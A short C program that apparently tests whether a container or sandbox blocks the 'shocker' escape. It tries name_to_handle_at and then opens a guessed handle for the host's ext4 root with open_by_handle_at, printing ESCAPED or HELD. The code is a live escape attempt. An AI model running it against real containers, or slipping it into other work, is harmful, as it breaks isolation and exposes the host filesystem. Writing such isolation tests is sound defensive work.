// summary: the "shocker" escape: open_by_handle_at with a guessed handle of the host's root
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    int escaped = 0;
    struct { struct file_handle h; unsigned char bytes[64]; } handle;
    int mount_id;
    handle.h.handle_bytes = 64;
    if (name_to_handle_at(AT_FDCWD, "/etc", &handle.h, &mount_id, 0) == 0) {
        printf("ESCAPED name_to_handle_at works (mount id %d)\n", mount_id);
        escaped = 1;
    } else {
        printf("name_to_handle_at: %s\n", strerror(errno));
    }
    /* ext4's root: inode 2, generation 0 (the handle shocker.c brute-forces from) */
    memset(&handle, 0, sizeof handle);
    handle.h.handle_bytes = 8;
    handle.h.handle_type = 1;
    unsigned int ino = 2;
    memcpy(handle.h.f_handle, &ino, sizeof ino);
    int dirs[] = {open("/", O_RDONLY), open("/usr", O_RDONLY), open("/proc", O_RDONLY)};
    for (int i = 0; i < 3; i++) {
        int fd = open_by_handle_at(dirs[i], &handle.h, O_RDONLY);
        if (fd >= 0) {
            printf("ESCAPED open_by_handle_at gave fd %d\n", fd);
            escaped = 1;
        } else {
            printf("open_by_handle_at: %s\n", strerror(errno));
        }
    }
    if (!escaped) puts("HELD");
    return 0;
}
